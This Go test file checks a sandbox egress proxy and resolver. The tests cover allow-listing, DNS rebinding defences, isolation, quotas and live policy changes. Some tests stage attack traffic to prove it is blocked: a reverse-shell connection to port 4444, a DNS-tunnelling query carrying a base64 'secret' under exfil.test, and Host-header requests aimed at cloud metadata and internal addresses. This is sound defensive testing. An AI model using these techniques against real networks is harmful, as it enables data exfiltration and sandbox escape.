package egress_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/airlockhq/airlock"
	"github.com/airlockhq/airlock/internal/testenv/testreq"
	"github.com/airlockhq/airlock/internal/testnet"
)

// hello answers every request with its host and path.
func hello(w http.ResponseWriter, r *http.Request) {
	fmt.Fprintf(w, "hello from %s%s", r.Host, r.URL.Path)
}

// find returns the events matching pred.
func find(evs []*airlock.EgressEvent, pred func(*airlock.EgressEvent) bool) []*airlock.EgressEvent {
	var out []*airlock.EgressEvent
	for _, e := range evs {
		if pred(e) {
			out = append(out, e)
		}
	}
	return out
}

// The kernel network stack in a sandbox namespace stands in for gVisor
// here (package session and the end-to-end tests use real sandboxes): the
// proxy, the resolver and the rules are the same.
func TestProxyAllowsListedNamesOnly(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	api := f.inet.ServeHTTP(http.HandlerFunc(hello), "api.test")
	other := f.inet.ServeHTTP(http.HandlerFunc(hello), "other.test")
	f.inet.SetName("api.test", api)
	f.inet.SetName("other.test", other)
	sb := f.attach([]string{"api.test"})

	t.Run("https", func(t *testing.T) {
		code, body, err := sb.get("https://api.test/x")
		if err != nil || code != 200 || body != "hello from api.test/x" {
			t.Fatalf("https://api.test/x: %d %q %v", code, body, err)
		}
	})
	t.Run("http", func(t *testing.T) {
		code, body, err := sb.get("http://api.test/y")
		if err != nil || code != 200 || body != "hello from api.test/y" {
			t.Fatalf("http://api.test/y: %d %q %v", code, body, err)
		}
	})
	t.Run("unlisted name does not resolve and is never asked upstream", func(t *testing.T) {
		if addrs, err := sb.lookup("other.test"); err == nil {
			t.Fatalf("other.test resolved to %v", addrs)
		}
		if slices.Contains(f.inet.Queries(), "other.test") {
			t.Error("the resolver forwarded other.test upstream")
		}
	})
	t.Run("unlisted name by its address with its SNI", func(t *testing.T) {
		c, err := sb.dial(netip.AddrPortFrom(other, 443).String())
		if err != nil {
			t.Fatal(err)
		}
		tc := tls.Client(c, &tls.Config{ServerName: "other.test", RootCAs: f.inet.CertPool()})
		tc.SetDeadline(time.Now().Add(5 * time.Second))
		if err := tc.Handshake(); err == nil {
			t.Fatal("TLS to other.test succeeded")
		}
		c.Close()
	})
	t.Run("listed server by raw IP", func(t *testing.T) {
		if _, _, err := sb.get("https://" + api.String() + "/"); err == nil {
			t.Error("https by address succeeded")
		}
		if _, _, err := sb.get("http://" + api.String() + "/"); err == nil {
			t.Error("http by address succeeded")
		}
	})
	t.Run("another port of a listed name", func(t *testing.T) {
		if _, _, err := sb.get("http://api.test:8080/"); err == nil {
			t.Error("port 8080 of api.test succeeded")
		}
	})

	evs := sb.events(airlock.EgressConnection)
	if got := find(evs, func(e *airlock.EgressEvent) bool {
		return e.Verdict == airlock.VerdictAllowed && e.SNI == "api.test" && e.Port == 443 && e.BytesDown > 0
	}); len(got) != 1 {
		t.Errorf("want one allowed TLS connection to api.test with bytes, got %d", len(got))
	}
	if got := find(evs, func(e *airlock.EgressEvent) bool {
		return e.Verdict == airlock.VerdictAllowed && e.Host == "api.test" && e.Protocol == "http" && e.Resolved == netip.AddrPortFrom(api, 80).String()
	}); len(got) != 1 {
		t.Errorf("want one allowed HTTP connection to api.test resolved by the proxy, got %d", len(got))
	}
	for _, want := range []struct{ reason, dialled string }{
		{"not-in-allow-list", netip.AddrPortFrom(other, 443).String()},
		{"no-sni", netip.AddrPortFrom(api, 443).String()},
		{"address-literal", netip.AddrPortFrom(api, 80).String()},
	} {
		if got := find(evs, func(e *airlock.EgressEvent) bool {
			return e.Verdict == airlock.VerdictDenied && e.Reason == want.reason && e.Dialled == want.dialled
		}); len(got) == 0 {
			t.Errorf("no denied connection to %s for %s in %s", want.dialled, want.reason, dump(evs))
		}
	}
	dnsEvs := sb.events(airlock.EgressDNS)
	if got := find(dnsEvs, func(e *airlock.EgressEvent) bool {
		return e.Name == "other.test" && e.Verdict == airlock.VerdictDenied && e.Reason == "not-in-allow-list"
	}); len(got) == 0 {
		t.Errorf("no denied query for other.test in %s", dump(dnsEvs))
	}
	if n := sb.att.Attempts(context.Background()); n < 6 {
		t.Errorf("attempts %d, want at least 6", n)
	}
}

func dump(evs []*airlock.EgressEvent) string {
	var b strings.Builder
	for _, e := range evs {
		fmt.Fprintf(&b, "\n  %s %s %s:%d sni=%q host=%q dialled=%s resolved=%s %s %s (%s) flags=%v",
			e.Kind, e.Protocol, e.Name, e.Port, e.SNI, e.Host, e.Dialled, e.Resolved, e.Verdict, e.Reason, e.Detail, e.Flags)
	}
	return b.String()
}

// A listed name that resolves to a private, loopback or metadata address
// is never connected to (DNS rebinding), whether the sandbox asks the
// resolver or names it in a Host header on a connection to a good
// address.
func TestProxyRefusesForbiddenResolvedAddresses(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	api := f.inet.ServeHTTP(http.HandlerFunc(hello), "api.test")
	f.inet.SetName("api.test", api)
	bad := map[string]string{
		"meta.test":    "169.254.169.254",
		"private.test": "10.1.2.3",
		"local.test":   "127.0.0.1",
		"cgnat.test":   "100.64.0.9",
		// The host's own address on the test internet's link: in the
		// permitted range, but the host's.
		"self.test": f.inet.HostIP.String(),
	}
	allow := []string{"api.test"}
	for name, addr := range bad {
		f.inet.SetName(name, netip.MustParseAddr(addr))
		allow = append(allow, name)
	}
	sb := f.attach(allow)
	for name := range bad {
		if addrs, err := sb.lookup(name); err == nil && len(addrs) > 0 {
			t.Errorf("%s resolved to %v in the sandbox", name, addrs)
		}
		// By Host on a connection to an allowed server's address.
		c, err := sb.dial(netip.AddrPortFrom(api, 80).String())
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\n\r\n", name)
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		if b, err := io.ReadAll(c); err == nil && len(b) > 0 {
			t.Errorf("Host %s: got an answer %q", name, b)
		}
		c.Close()
	}
	evs := sb.events("")
	for name, addr := range bad {
		if got := find(evs, func(e *airlock.EgressEvent) bool {
			return e.Name == name && e.Kind == airlock.EgressConnection && e.Reason == "forbidden-address" && strings.Contains(e.Resolved, addr)
		}); len(got) != 1 {
			t.Errorf("%s: want one connection refused for its address %s: %s", name, addr, dump(evs))
		}
		if got := find(evs, func(e *airlock.EgressEvent) bool {
			return e.Name == name && e.Kind == airlock.EgressDNS && e.Reason == "forbidden-address"
		}); len(got) == 0 {
			t.Errorf("%s: no DNS answer withheld", name)
		}
	}
}

// Nothing but the proxy and the resolver is reachable: not the host's own
// services (on loopback or on the link's address), not another sandbox,
// not the metadata address; UDP and ICMP are dropped and counted.
func TestNamespaceReachesNothingElse(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	a := f.attach([]string{"api.test"})
	b := f.attach([]string{"api.test"})

	// A host service on every address, and one in sandbox b.
	var hostHits, bHits atomic.Int64
	hostLn, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer hostLn.Close()
	go acceptCount(hostLn, &hostHits)
	port := hostLn.Addr().(*net.TCPAddr).Port
	var bLn net.Listener
	if err := b.do(func() error {
		var err error
		bLn, err = net.Listen("tcp4", "0.0.0.0:8000")
		return err
	}); err != nil {
		t.Fatal(err)
	}
	defer bLn.Close()
	go acceptCount(bLn, &bHits)
	bIP := sandboxIP(b)

	for _, target := range []string{
		net.JoinHostPort(a.gateway(), fmt.Sprint(port)), // the host, on the link
		net.JoinHostPort(bIP, "8000"),                   // the other sandbox
		"169.254.169.254:80",                            // metadata
	} {
		c, err := a.dial(target)
		if err == nil {
			c.Write([]byte("hello?\n"))
			c.SetReadDeadline(time.Now().Add(3 * time.Second))
			n, _ := c.Read(make([]byte, 16))
			c.Close()
			if n > 0 {
				t.Errorf("%s answered", target)
			}
		}
	}
	// UDP to the host's link address and to the other sandbox.
	a.do(func() error {
		for _, target := range []string{net.JoinHostPort(a.gateway(), "9999"), net.JoinHostPort(bIP, "9999"), "169.254.169.254:53"} {
			if c, err := net.Dial("udp4", target); err == nil {
				c.Write([]byte("x"))
				c.Close()
			}
		}
		return nil
	})
	if hostHits.Load() != 0 || bHits.Load() != 0 {
		t.Errorf("host service got %d connections, sandbox b %d", hostHits.Load(), bHits.Load())
	}
	// The drops are counted as the packets pass the rules, and the proxy
	// records a denial after it has reset the connection: poll for both.
	metadataDrops := func(e *airlock.EgressEvent) bool {
		return e.Kind == airlock.EgressDrops && slices.Contains(e.Flags, "metadata")
	}
	deniedB := func(e *airlock.EgressEvent) bool {
		return e.Kind == airlock.EgressConnection && e.Verdict == airlock.VerdictDenied && e.Dialled == net.JoinHostPort(bIP, "8000")
	}
	var evs []*airlock.EgressEvent
	testreq.Poll(5*time.Second, func() bool {
		a.att.Attempts(context.Background()) // records the drops
		evs = a.events("")
		return len(find(evs, metadataDrops)) > 0 && len(find(evs, deniedB)) > 0
	})
	if got := find(evs, metadataDrops); len(got) == 0 {
		t.Errorf("no drops event with the metadata flag: %s", dump(evs))
	}
	if got := find(evs, deniedB); len(got) != 1 {
		t.Errorf("the connection to sandbox b is not logged as denied once: %s", dump(evs))
	}
}

func acceptCount(ln net.Listener, n *atomic.Int64) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		n.Add(1)
		c.Close()
	}
}

// sandboxIP is the sandbox's own address: the gateway's neighbour.
func sandboxIP(s *sandbox) string {
	return netip.MustParseAddr(s.gateway()).Next().String()
}

// A reverse shell's connection to a listener gets nowhere: it is neither
// TLS nor HTTP, its address was never handed out, and it is logged.
func TestReverseShellRefused(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	lnAddr := f.inet.Addr()
	ln := f.inet.Listen("tcp4", netip.AddrPortFrom(lnAddr, 4444))
	var hits atomic.Int64
	go acceptCount(ln, &hits)
	sb := f.attach([]string{"api.test"})
	c, err := sb.dial(netip.AddrPortFrom(lnAddr, 4444).String())
	if err == nil {
		fmt.Fprintf(c, "bash: no job control in this shell\n$ ")
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		_, rerr := bufio.NewReader(c).ReadString('\n')
		if rerr == nil {
			t.Error("the listener answered")
		}
		c.Close()
	}
	if hits.Load() != 0 {
		t.Errorf("the listener got %d connections", hits.Load())
	}
	// The proxy records the denial after it has reset the connection, so
	// the sandbox can see the reset before the event is queued: poll.
	denied := func(e *airlock.EgressEvent) bool {
		return e.Dialled == netip.AddrPortFrom(lnAddr, 4444).String() && e.Verdict == airlock.VerdictDenied && e.Reason == "protocol-not-allowed"
	}
	var evs []*airlock.EgressEvent
	testreq.Poll(5*time.Second, func() bool {
		evs = sb.events(airlock.EgressConnection)
		return len(find(evs, denied)) > 0
	})
	if got := find(evs, denied); len(got) != 1 {
		t.Errorf("want the reverse shell logged as denied once: %s", dump(evs))
	}
}

// Other protocols pass only on a port a rule names, to the name the
// sandbox's resolver answered for the address.
func TestOpaqueProtocolNeedsExplicitPort(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	db := f.inet.Addr()
	f.inet.SetName("db.test", db)
	f.inet.SetName("web.test", db)
	ln := f.inet.Listen("tcp4", netip.AddrPortFrom(db, 5432))
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() { defer c.Close(); io.Copy(c, c) }()
		}
	}()
	sb := f.attach([]string{"db.test:5432", "web.test"})
	echo := func(name string) error {
		addrs, err := sb.lookup(name)
		if err != nil {
			return err
		}
		c, err := sb.dial(net.JoinHostPort(addrs[0], "5432"))
		if err != nil {
			return err
		}
		defer c.Close()
		c.Write([]byte("\x00\x00\x00\x08ping"))
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		b := make([]byte, 8)
		_, err = io.ReadFull(c, b)
		return err
	}
	if err := echo("db.test"); err != nil {
		t.Errorf("db.test:5432 listed: %v", err)
	}
	// The same address, last answered for web.test (listed for the web
	// ports only): refused.
	if err := echo("web.test"); err == nil {
		t.Error("web.test:5432 passed without a rule naming the port")
	}
}

// DNS tunnelling: queries with long encoded labels under a name that is
// not listed are answered NXDOMAIN, never forwarded, logged and flagged.
func TestDNSExfiltrationFlagged(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	sb := f.attach([]string{"api.test"})
	secret := "c2VjcmV0LWRhdGEtZnJvbS10aGUtd29ya3NwYWNlLWNodW5rLTAwMQ"
	name := strings.ToLower(secret) + ".x7f3k9q2.exfil.test"
	if _, err := sb.lookup(name); err == nil {
		t.Fatal("the exfiltration name resolved")
	}
	for _, qt := range []uint16{dns.TypeA, dns.TypeTXT, dns.TypeAAAA} {
		in, err := sb.query(name, qt)
		if err != nil || in.Rcode != dns.RcodeNameError {
			t.Errorf("query type %d: want NXDOMAIN, got %v %v", qt, in, err)
		}
	}
	for _, q := range f.inet.Queries() {
		if strings.Contains(q, "exfil") {
			t.Errorf("the query %q reached the upstream resolver", q)
		}
	}
	evs := sb.events(airlock.EgressDNS)
	got := find(evs, func(e *airlock.EgressEvent) bool {
		return e.Name == name && e.Verdict == airlock.VerdictDenied && slices.Contains(e.Flags, "long-label") && slices.Contains(e.Flags, "high-entropy")
	})
	if len(got) == 0 {
		t.Errorf("the query is not logged as denied and flagged: %s", dump(evs))
	}
}

// Replacing the policy applies to new connections at once and cuts open
// connections the new list denies.
func TestLivePolicyCutsConnections(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	stream := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for i := 0; i < 600; i++ {
			if _, err := fmt.Fprintf(w, "tick %d\n", i); err != nil {
				return
			}
			w.(http.Flusher).Flush()
			select {
			case <-r.Context().Done():
				return
			case <-time.After(50 * time.Millisecond):
			}
		}
	})
	api := f.inet.ServeHTTP(stream, "api.test")
	keep := f.inet.ServeHTTP(stream, "keep.test")
	f.inet.SetName("api.test", api)
	f.inet.SetName("keep.test", keep)
	sb := f.attach([]string{"api.test", "keep.test"})

	open := func(host string) (*bufio.Reader, io.Closer) {
		resp, err := sb.client().Get("http://" + host + "/stream")
		if err != nil {
			t.Fatal(err)
		}
		r := bufio.NewReader(resp.Body)
		if _, err := r.ReadString('\n'); err != nil {
			t.Fatal(err)
		}
		return r, resp.Body
	}
	cut, c1 := open("api.test")
	defer c1.Close()
	kept, c2 := open("keep.test")
	defer c2.Close()
	if err := sb.att.SetPolicy(context.Background(), airlock.NetworkPolicy{Mode: airlock.NetworkAllowList, Allow: []string{"keep.test"}}); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(5 * time.Second)
	var err error
	for time.Now().Before(deadline) {
		if _, err = cut.ReadString('\n'); err != nil {
			break
		}
	}
	if err == nil {
		t.Fatal("the connection to api.test stayed open after the policy dropped it")
	}
	if _, err := kept.ReadString('\n'); err != nil {
		t.Errorf("the connection to keep.test was cut too: %v", err)
	}
	if _, _, err := sb.get("http://api.test/"); err == nil {
		t.Error("a new connection to api.test passed")
	}
	c2.Close()
	// The cut connection is recorded when its proxy goroutine ends: poll.
	cutLogged := func(e *airlock.EgressEvent) bool {
		return e.Kind == airlock.EgressConnection && e.Name == "api.test" && e.Verdict == airlock.VerdictClosed && e.Reason == "policy-changed"
	}
	policyLogged := func(e *airlock.EgressEvent) bool { return e.Kind == airlock.EgressPolicy }
	var evs []*airlock.EgressEvent
	testreq.Poll(5*time.Second, func() bool {
		evs = sb.events("")
		return len(find(evs, cutLogged)) > 0 && len(find(evs, policyLogged)) > 0
	})
	if got := find(evs, cutLogged); len(got) != 1 {
		t.Errorf("want the cut connection logged once: %s", dump(evs))
	}
	if got := find(evs, policyLogged); len(got) != 1 {
		t.Errorf("want the policy change logged once: %s", dump(evs))
	}
}

// Over its quota a sandbox's connections are cut and new ones refused.
func TestQuota(t *testing.T) {
	f := newFixture(t, fixtureOpts{quota: 256 << 10})
	big := strings.Repeat("x", 4<<20)
	api := f.inet.ServeHTTP(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, big) }), "api.test")
	f.inet.SetName("api.test", api)
	sb := f.attach([]string{"api.test"})
	_, body, err := sb.get("http://api.test/")
	if err == nil && len(body) == len(big) {
		t.Fatal("the download passed the quota")
	}
	if _, _, err := sb.get("http://api.test/"); err == nil {
		t.Error("a new connection passed after the quota was used")
	}
	if !sb.att.(interface{ OverQuota() bool }).OverQuota() {
		t.Error("the attachment does not say its quota is used (limits_hit egress_bytes reads it)")
	}
	evs := sb.events(airlock.EgressConnection)
	if got := find(evs, func(e *airlock.EgressEvent) bool { return e.Reason == "quota-exceeded" }); len(got) < 2 {
		t.Errorf("want the cut and the refusal logged: %s", dump(evs))
	}
}

// TestDenyOverridesPermit: an address in Config.Deny (a fleet's etcd,
// store and nodes) is refused even inside a permitted range, by name
// and by Host, while its neighbours in that range stay reachable.
func TestDenyOverridesPermit(t *testing.T) {
	var infra netip.Addr
	f := newFixture(t, fixtureOpts{deny: func(inet *testnet.Internet) []netip.Prefix {
		infra = inet.ServeHTTP(http.HandlerFunc(hello), "etcd.test")
		return []netip.Prefix{netip.PrefixFrom(infra, infra.BitLen())}
	}})
	if !f.inet.Prefix.Contains(infra) {
		t.Fatalf("the denied server %s is outside the permitted %s: the test proves nothing", infra, f.inet.Prefix)
	}
	f.inet.SetName("etcd.test", infra)
	api := f.inet.ServeHTTP(http.HandlerFunc(hello), "api.test")
	f.inet.SetName("api.test", api)
	sb := f.attach([]string{"api.test", "etcd.test"})
	if addrs, err := sb.lookup("etcd.test"); err == nil && len(addrs) > 0 {
		t.Errorf("etcd.test resolved to %v in the sandbox", addrs)
	}
	c, err := sb.dial(netip.AddrPortFrom(api, 80).String())
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: etcd.test\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if b, err := io.ReadAll(c); err == nil && len(b) > 0 {
		t.Errorf("Host etcd.test: got an answer %q", b)
	}
	c.Close()
	if got := find(sb.events(""), func(e *airlock.EgressEvent) bool {
		return e.Name == "etcd.test" && e.Kind == airlock.EgressConnection && e.Reason == "forbidden-address"
	}); len(got) != 1 {
		t.Errorf("want one connection to etcd.test refused for its address: %s", dump(sb.events("")))
	}
	// The permitted neighbour answers.
	c, err = sb.dial(netip.AddrPortFrom(api, 80).String())
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if b, _ := io.ReadAll(c); !strings.Contains(string(b), "hello from api.test") {
		t.Errorf("api.test beside the denied address: %q", b)
	}
	c.Close()
}
